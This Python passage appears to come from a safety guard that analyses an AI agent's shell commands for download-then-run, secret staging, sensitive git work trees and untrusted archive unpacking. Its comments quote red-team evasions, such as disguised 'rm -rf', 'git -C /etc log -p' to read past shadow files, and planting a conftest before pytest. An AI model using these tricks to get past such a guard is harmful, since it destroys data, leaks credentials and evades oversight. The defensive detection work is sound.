        f"{tgt!r}, where {_by_whom(f, state.earlier)} wrote {f!r}"
        for f in (*state.fetched, *state.earlier)
        if f == ANYWHERE or f.startswith(tgt.rstrip("/") + "/")), "")


def _moved_links(c: SimpleCommand, dirs: list[str], state: _State, step: Step) -> None:
    """``mv LINK NAME`` replaces NAME with the link, as ``ln -sf`` would (a deploy's atomic
    switch: ``ln -s releases/7 tmp && mv -T tmp current``): judged as that ln; a link an
    earlier line made (or its live target) moved over a name is a switch the guard cannot
    check here."""
    ops = [a for a in c.args if not a.startswith("-")]
    for o in ops[:-1]:
        for d in dirs:
            if d == UNKNOWN:
                continue
            q = _tidy(join(d, o) if _is_relative(o) else o)
            if q in state.links:
                why = _untrusted_target(state.links[q], state)
                if why:
                    step.findings.append(FlowFinding(
                        "fs.link-sensitive", (state.links[q],),
                        f"moves a link over {ops[-1]!r}: replaces it with one to {why}"))
                    return
            elif q in state.live:
                step.findings.append(FlowFinding(
                    "fs.link-sensitive", (q,), f"moves {o!r}, which an earlier line "
                    f"({state.live[q]!r}) linked, over {ops[-1]!r}: a switch to what that "
                    "link reaches, which the guard cannot check on this line"))
                return


#: files an ordinary command writes that hold secrets (a saved terraform plan: plain-text
#: sensitive values): staged whole with a directory, they go to the remote with a push
_SECRET_OUTPUT = re.compile(r"(?:^|/)(?:tfplan|[^/]*\.tfplan)$")


def _secret_staged(c: SimpleCommand, dirs: list[str], state: _State) -> str | None:
    """A secret output this line or an earlier one wrote that ``git add`` stages with a
    directory, ``.``, ``-A`` or a pathspec (a named file is the catalogue's secret check)."""
    sub, rest = _git_sub(c)
    if sub != "add" or any(a in ("-u", "--update") for a in rest):
        return None
    every = any(a in ("-A", "--all") or (a.startswith("-") and not a.startswith("--") and
                                         "A" in a) for a in rest)
    specs = [a for a in rest if not a.startswith("-")] or ["."]
    for w in [*state.fetched, *state.earlier]:
        if w in (ANYWHERE, UNKNOWN) or not _SECRET_OUTPUT.search(w):
            continue
        if every or any(_root_of(w, [_spec_root(p, d, state)]) is not None or
                        not _PLAIN_SPEC.fullmatch(p) for p in specs for d in dirs
                        if d != UNKNOWN):
            return w
    return None


def _spec_root(p: str, d: str, state: _State) -> str:
    """A pathspec's directory as ``_root_of`` spells roots (``""``: the start directory)."""
    r = posixpath.normpath(_resolve(p.rstrip("/") or ".", d, state.links))
    return "" if r == "." else r


_PLAIN_SPEC = re.compile(r"[A-Za-z0-9_.][A-Za-z0-9_./-]*+")


def _findings(c: SimpleCommand, dirs: list[str], state: _State, step: Step) -> None:
    """download-then-run, sensitive work trees and unpacking of untrusted archives."""
    if c.name == "git" and state.written():
        staged = _secret_staged(c, dirs, state)
        if staged is not None:
            step.findings.append(FlowFinding(
                "secret.read", (staged,), f"git add stages {staged!r}, which "
                f"{_by_whom(state.root_of(staged) or staged, state.earlier)} wrote: a saved "
                "plan holds sensitive values in plain text, and a push carries it"))
            return
    if c.name == "rm" and state.written() and build_artifacts_only(c):
        # ``mv Documents out; rm -rf out``: a build artifact's name on what this line or
        # an earlier one moved or wrote there (red team s10b)
        for o in (a for a in c.args if not a.startswith("-")):
            for d in dirs:
                r = _resolve(o.rstrip("/"), d, state.links) if d != UNKNOWN else UNKNOWN
                if r == UNKNOWN or state.root_of(r) is not None:
                    step.findings.append(FlowFinding(
                        "fs.rm-recursive", (o,), f"deletes {o!r}, which this line or an "
                        "earlier one moved or wrote there: not a build's output"))
                    return
    if state.written() and _restarts_service(c):
        wrote = _code_written(state)
        if wrote is not None:
            step.findings.append(FlowFinding(
                "exec.download-then-run", (wrote,), f"restarts or reloads a service after "
                f"{_by_whom(state.root_of(wrote) or wrote, state.earlier)} wrote "
                f"{wrote if wrote != ANYWHERE else 'anywhere'!r}: the service may run it"))
            return
    runner = CODE_RUNNERS.get(c.name)
    # a program named by a path (relative, ``~/x/node_modules/.bin/jest``, ``/srv/app/bin/x``),
    # not one of the system's: its directory is where its code comes from (round four, F3)
    relative_program = bool(c.argv) and "/" in c.argv[0] and (
        _is_relative(c.argv[0]) or posixpath.dirname(c.argv[0]) + "/" not in BIN_DIRS)
    # a site script run by its interpreter (``python train.py``) is the tree's code, as a
    # relative program is: its directory and the working directory are where it comes from
    script = script_of(c.argv)
    running = runner is not None and (not runner or _subcommand(c) in runner) and \
        not _compose_looks(c) or script is not None
    if running or relative_program:
        places = list(dirs) + [join(d, w) for d in dirs for w in _code_dirs(c)]
        places += [_follow(w, state.links) for w in _code_dirs(c) if w.startswith("/")]
        if relative_program or script is not None:
            word = script[1] if script is not None else c.argv[0]
            places += [_dir_of(join(d, word)) for d in dirs]
            # a site script's first operand, when a path and not data, may be the program
            # it runs (``./run.sh tools/e``: a wrapper) (red team s11)
            at = script[0] + 1 if script is not None else len(c.argv)
            first = c.argv[at + 1] if c.argv[at:at + 1] == ("--",) else (
                c.argv[at] if at < len(c.argv) else "")
            runs = [word] + ([first] if "/" in first and not first.startswith("-") and
                             not _DATA_WRITTEN.search(first) else [])
            for w in runs:
                for d in dirs:
                    r = _resolve(w, d, state.links) if d != UNKNOWN else UNKNOWN
                    linked = next((x for x in (r, _tidy(r)) if x in state.live), None)
                    if linked is not None:
                        # a name an earlier line linked: what it runs is the link's target,
                        # which neither its name nor an allow: entry says (red team s11)
                        step.findings.append(FlowFinding(
                            "exec.download-then-run", (linked,), f"runs {w!r}, which an "
                            f"earlier line ({state.live[linked]!r}) linked: its target is "
                            "another program"))
                        return
                    root = state.root_of(r) if r != UNKNOWN else None
                    if root is not None:
                        step.findings.append(FlowFinding(
                            "exec.download-then-run", (r,), f"runs {w!r}, which "
                            f"{_by_whom(root, state.earlier)} wrote or fetched"))
                        return
            for d in dirs if script is not None else ():
                beside = _written_beside(_dir_of(join(d, word)) if d != UNKNOWN else d, state)
                if beside is not None:
                    # a script loads what lies beside it by any name (require('./util')
                    # takes ./util first, ``source lib/common``, R's source()) (red team s11)
                    who = _by_whom(state.root_of(beside) or beside, state.earlier)
                    step.findings.append(FlowFinding(
                        "exec.download-then-run", (beside,), f"runs {word!r}, beside "
                        f"{beside!r}, which {who} wrote: a script may load it as code"))
                    return
        # where a walking runner collects: the trees it is named (``pytest tests/``), else
        # where it runs
        named = [w for w in _code_dirs(c) if not _URLISH.match(w)] \
            if c.name in ("pytest", "py.test") else []
        walks = set() if c.name not in WALKING_RUNNERS else (
            {join(d, w) if not w.startswith(("/", "~")) else w for d in dirs for w in named}
            if named else set(dirs))
        places += [w for w in walks if w not in places]
        for p in dict.fromkeys(places):
            why = untrusted_dir(p, state.fetched, state.earlier)
            if why and not (c.name == "git" and p != UNKNOWN and not (
                    state.root_of(p) is not None or p.startswith(SCRATCH))):
                step.findings.append(FlowFinding(
                    "exec.download-then-run", (p,), f"runs code found in {why}"))
                break
            inside = _code_inside(p, state, extra=_runner_files(c),
                                  walking=c.name in OPEN_WALKERS and p in walks) or (
                _planted_below(p, state) if p in walks else None)
            if inside:
                step.findings.append(FlowFinding(
                    "exec.download-then-run", (inside,), f"runs code from {inside!r} (in "
                    f"{p or 'the working directory'!r}), which "
                    f"{_by_whom(inside, state.earlier)} wrote"))
                break
    configs = LINTER_CONFIGS.get(c.name)
    if configs is not None and state.written():
        for d in dirs:
            conf = _code_inside(d, state, extra=configs, only_extra=True)
            if conf is not None:
                step.findings.append(FlowFinding(
                    "exec.download-then-run", (conf,), f"{c.name} loads code its configuration "
                    f"names, and {_by_whom(state.root_of(conf) or conf, state.earlier)} "
                    f"wrote {conf!r}"))
                return
    if c.name in CONFIG_READERS and c.name != "git" and state.written():
        words = [_path_value(c.argv[i]) for i in _path_positions(c)] + _code_dirs(c)
        if c.name in CONTENT_SNIFFERS:
            # every word that may name an input: an operand, an option's value (``-i IN``)
            words += [a.split("=", 1)[-1] for a in c.args if not _URLISH.match(a)]
        if running:
            # a running tool's operands name what it runs (``pytest sub``, ``helm install x
            # ./chart``, ``docker build sub``): judged against what was written, not scratch
            # a site script's data (``python plot.py out.csv``) is its input, not its code;
            # anything else it is given may be what it runs (a wrapper's program)
            words += [a for a in c.args if not a.startswith("-") and not _URLISH.match(a)
                      and not (script is not None and _DATA_WRITTEN.search(a))]
        for d in dirs:
            for w in words:
                r = _resolve(w, d, state.links) if w else w
                root = state.root_of(r) if r and r != UNKNOWN else None
                if root is None and r and r != UNKNOWN and c.name in _DIR_CONFIG_READERS:
                    # a directory it reads every file of (an inventory directory): what
                    # was written below it is configuration too (harmful set s15: a file
                    # with no extension in inventory/ set ansible_python_interpreter)
                    root = _written_below(r, state)
                if root is not None:
                    step.findings.append(FlowFinding(
                        "exec.download-then-run", (r,), f"takes {w!r}, which "
                        f"{_by_whom(root, state.earlier)} wrote or "
                        "fetched, as its manifest, configuration or code"))
                    return
    if c.name == "git" and state.written():
        # a repository from elsewhere runs its own config (core.fsmonitor, hooks) on any use
        trees = [join(b, t) if not t.startswith(("/", "~")) else t
                 for t in _option_value(_git_globals(c), "-C", "--work-tree", "--git-dir")
                 for b in dirs] or list(dirs)
        for t in trees:
            if _COMPUTED_DIR.search(t) and _may_be_written(t, state):
                # (session 15) ``D=/tmp/x; git -C "$D" status``: no tree to compare
                step.findings.append(FlowFinding(
                    "exec.download-then-run", (t,), f"runs git in {t!r}, a directory computed "
                    "at run time, after the session wrote, fetched or unpacked files (a "
                    "repository's config runs commands)"))
                return
            root = state.root_of(_follow(t, state.links)) if t != UNKNOWN else None
            root = root if root is not None else _code_inside(t, state, git=True)
            if root is not None:
                step.findings.append(FlowFinding(
                    "exec.download-then-run", (t,), f"runs git in {t!r}, a tree "
                    f"{_by_whom(root, state.earlier)} wrote, fetched or unpacked (its config "
                    "runs commands)"))
                return
    if c.name == "git":
        gsub, _ = _git_sub(c)
        if gsub in _GIT_SHOWS:
            # a repository of /etc, /root or a home holds the past content of its files:
            # ``git -C /etc log -p`` prints every shadow an etckeeper committed (red team s10)
            gd = [x.rstrip("/").removesuffix("/.git") or "/" for x in
                  _option_value(_git_globals(c), "--git-dir")]
            trees = [join(b, t) if not t.startswith(("/", "~")) else t
                     for t in [*_chdir_of(c), *gd] for b in dirs] or \
                [d for d in dirs if d != START]
            for t in trees:
                why = _sensitive_tree(_follow(t, state.links) if t else t)
                if why:
                    step.findings.append(FlowFinding(
                        "fs.work-tree-sensitive", (t,), f"git {gsub} prints what files held "
                        f"in {why}"))
                    break
        if gsub in _GIT_WRITES:
            trees = [join(b, t) if not t.startswith(("/", "~")) else t
                     for t in _chdir_of(c) for b in dirs] or list(dirs)
            for t in trees:
                why = _sensitive_tree(_follow(t, state.links) if t else t)
                if why:
                    step.findings.append(FlowFinding("fs.work-tree-sensitive", (t,), why))
                    break
    if c.name in ("tar", "bsdtar", "unzip"):
        mode_x = c.name == "unzip" or any(
            a in ("-x", "--extract", "--get") or (a.startswith("-") and not a.startswith("--")
                                                  and "x" in a) or
            (i == 0 and _OLD_STYLE.fullmatch(a) is not None and "x" in a)
            for i, a in enumerate(c.args))
        archive = _archive(c)
        if mode_x and archive:
            for d in dirs:
                src = _resolve(archive, d, state.links)
                untrusted = state.root_of(src) is not None or (
                    src.startswith("/") and _trees_under(norm(src), list(SCRATCH)))
                dests = [_resolve(x, d, state.links) for x in _option_value(
                    c.args, "-C", "--directory", "-d")] or [d]
                for dest in dests:
                    if untrusted and dest.startswith(("/", "~")) and not _trees_under(
                            norm(dest) if dest.startswith("/") else dest, list(SCRATCH)):
                        step.findings.append(FlowFinding(
                            "fs.extract-untrusted", (dest,),
                            f"unpacks {archive!r} from scratch space or a download"))
                        return
    if c.name == "rsync":
        _copy_untrusted(c, dirs, state, step)


#: rsync options whose value is the next word (the catalogue lists which are ordinary)
_RSYNC_VALUES = frozenset({
    "--exclude", "--include", "--info", "--timeout", "--bwlimit", "--max-size", "--min-size",
    "--out-format", "--modify-window", "--compress-level", "--skip-compress", "--contimeout",
    "--checksum-choice", "-e", "--rsh", "--log-file", "--exclude-from", "--include-from",
    "--files-from", "--filter", "-f", "--temp-dir", "-T", "--partial-dir", "--backup-dir",
    "--suffix", "--compare-dest", "--copy-dest", "--link-dest", "--rsync-path", "--chmod",
    "--chown", "--usermap", "--groupmap", "--password-file", "--port", "--address"})


def _copy_untrusted(c: SimpleCommand, dirs: list[str], state: _State, step: Step) -> None:
    """A copy (rsync) into a place outside the tree and scratch, a deploy directory, of what
    this line or an earlier one fetched or wrote, or of scratch space: a deploy of code the
    agent brought, as unpacking a downloaded archive there is (``fs.extract-untrusted``)."""
    args, ops, i = c.args, [], 0
    if any(a in ("-n", "--dry-run") or (a.startswith("-") and not a.startswith("--") and
                                        "n" in a[1:]) for a in args):
        return
    while i < len(args):
        a = args[i]
        if a.startswith("-") and a != "-":
            i += 2 if a in _RSYNC_VALUES else 1
            continue
        ops.append(a)
        i += 1
    if len(ops) < 2:
        return
    for d in dirs:
        dest = _resolve(ops[-1], d, state.links)
        if not dest.startswith(("/", "~")) or _trees_under(
                norm(dest) if dest.startswith("/") else dest, list(SCRATCH)):
            continue
        for src in (_resolve(x, d, state.links) for x in ops[:-1]):
            inside = src.rstrip("/") or src
            written = state.root_of(src) is not None or any(
                f == ANYWHERE or _root_of(f, [inside]) is not None
                for f in (*state.fetched, *state.earlier))
            if written or (src.startswith("/") and _trees_under(norm(src), list(SCRATCH))):
                step.findings.append(FlowFinding(
                    "fs.extract-untrusted", (dest,),
                    f"copies {src!r}, which a download or this session wrote, or scratch "
                    "space, into a deploy directory"))
                return


def _runner_files(c: SimpleCommand) -> re.Pattern[str] | None:
    if c.name.startswith("python") and c.args[:2] == ("-m", "pytest"):
        return RUNNER_FILES["pytest"]
    if c.name == "jupyter" and "--execute" not in c.args:
        return None  # converting a notebook runs none of its cells
    return RUNNER_FILES.get(c.name)


def _written_beside(d: str, state: _State) -> str | None:
    """A path this line or an earlier one wrote, fetched or planted below directory ``d``
    that is not data by its name (``.csv``, ``.log``...), or None: what a script in ``d``
    may load as code under any name."""
    if d == UNKNOWN:
        return UNKNOWN
    base = _tidy(d)
    for f in (*state.fetched, *state.earlier, *state.planted, *state.sown):
        if f in (ANYWHERE, UNKNOWN):
            return f
        if base:
            rel = f[len(base) + 1:] if f.startswith(base + "/") else ""
        else:
            rel = f if not f.startswith(("/", "~")) else ""
        if rel and not _DATA_WRITTEN.search(rel):
            return f
    return None


def _planted_below(d: str, state: _State) -> str | None:
    """A tree this line unpacked, cloned or copied into, below directory ``d``: its content
    is unknown (a conftest.py, a test file, a vendored module) and a runner that walks ``d``
    (pytest, jest, go ./..., mvn) runs it (red team s10: ``unzip -d src x.zip && pytest``)."""
    if d == UNKNOWN:
        return None
    base = d.rstrip("/")
    # this line's trees, and those earlier lines planted (PLANTED entries of the memory)
    for f in (*state.planted, *state.sown):
        if f == UNKNOWN:
            continue
        inside = f.startswith(base + "/") if base else not f.startswith(("/", "~"))
        if inside:
            return f
    return None


#: dot-files git or its hook managers run or read as commands (filters, hooks, pre-commit,
#: husky, lefthook, lint-staged, overcommit); not .github, .vscode or .editorconfig
_GIT_RUNS = re.compile(r"\.git(?:$|attributes$|modules$|config$|/)|\.husky$|\.pre-commit|"
                       r"\.lintstagedrc|\.lefthook|\.overcommit|\.githooks$")


def _code_inside(d: str, state: _State, git: bool = False,
                 extra: re.Pattern[str] | None = None,
                 only_extra: bool = False, walking: bool = False) -> str | None:
    """A written path below directory ``d`` that tools read as their code or configuration
    there (``Makefile``, ``tests/conftest.py``, ``package.json``, ``.git/config``), or None.
    ``git``: only what git reads (a dot-file, or a bare repository's config, HEAD, hooks).
    ``only_extra``: only what ``extra`` names (a linter's configuration files).
    ``walking``: a runner whose conventions are open (jest's snapshots, rake's .rake files,
    MSBuild's response files, a PHP analyser's bootstrap): anything but data is its code (red
    team s14 G4: a table of code names is beaten by the next convention)."""
    if d == UNKNOWN or not state.written():
        return None
    base = d.rstrip("/")
    for f in (*state.fetched, *state.earlier):
        if f == ANYWHERE:
            if only_extra:
                return f  # written anywhere: the configuration too
            continue
        if base:
            rel = f[len(base) + 1:] if f.startswith(base + "/") else ""
        else:
            rel = f if not f.startswith(("/", "~")) else ""
        parts = rel.split("/") if rel else []
        if only_extra:
            if rel and extra is not None and extra.search(rel):
                return f
            continue
        if rel and ((not git and (CODE_FILE.search(rel) or (
                extra is not None and extra.search(rel)) or (walking and not (
                    _DATA_WRITTEN.search(rel) or _DATA_PLACE.search(rel))))) or (
                not git and any(
                s.startswith(".") and s not in (".", "..") for s in parts)) or (git and (
                    parts[-1] in ("config", "HEAD") or "hooks" in parts or any(
                        _GIT_RUNS.match(s) for s in parts)))):
            return f
    return None


def _code_dirs(c: SimpleCommand) -> list[str]:
    """Directories and files a code runner takes its code from, besides its cwd."""
    out = list(_chdir_of(c))
    out += _option_value(c.args, "-f", "--file", "-c", "--conf", "--config", "--manifest-path",
                         "--rootdir", "-p", "--project-dir", "-b", "--build-file")
    if c.name in ("pytest", "py.test", "ansible-playbook", "tox", "nox", "jest", "mocha",
                  "phpunit", "rspec") or (c.name.startswith("python") and "-m" in c.args):
        out += [a for a in c.args if not a.startswith("-") and ("/" in a or "." in a)]
    if c.name in ("just", "task", "go-task"):  # the recipe file named by its long option
        out += _option_value(c.args, "--justfile", "-t", "--taskfile")
    if c.name in ("pip", "pip3") and "install" in c.args:
        # a local project (``-e sub``, ``./sub``, ``e.tgz``) runs its setup.py / build backend;
        # a plain name is an index's unless it is a path the session wrote
        out += _option_value(c.args, "-e", "--editable")
        out += [a for a in c.args[c.args.index("install") + 1:] if not a.startswith("-")]
    if c.name in ("docker", "podman") and "build" in c.args:
        ops = [a for a in c.args if not a.startswith("-")]
        out += ops[-1:] if len(ops) >= 2 else []
    if c.name == "aws":  # a lambda's code: the archive it uploads (fileb://PATH)
        out += [v[len("fileb://"):] for v in _option_value(c.args, "--zip-file")
                if v.startswith("fileb://")]
    return [o for o in out if o and not _URLISH.match(o)]


def _sensitive_tree(t: str) -> str:
    if t == UNKNOWN:
        return "a work tree the guard cannot compute"
    q = norm(t).rstrip("/") if t.startswith("/") else t.rstrip("/")
    if q in ("", "/") and t.startswith("/"):
        return "the root directory as a work tree"
    if q in ("~", "$HOME", "/root") or re.fullmatch(r"/home/[^/]+", q) or q.startswith("~") \
            and q.count("/") == 0:
        return "a home directory as a work tree (its dot-files are the user's startup files)"
    if t.startswith("/") and is_system_path(q):
        return "a system directory as a work tree"
    if maybe_secret_path(q):
        return "a work tree that holds secrets"
    return ""
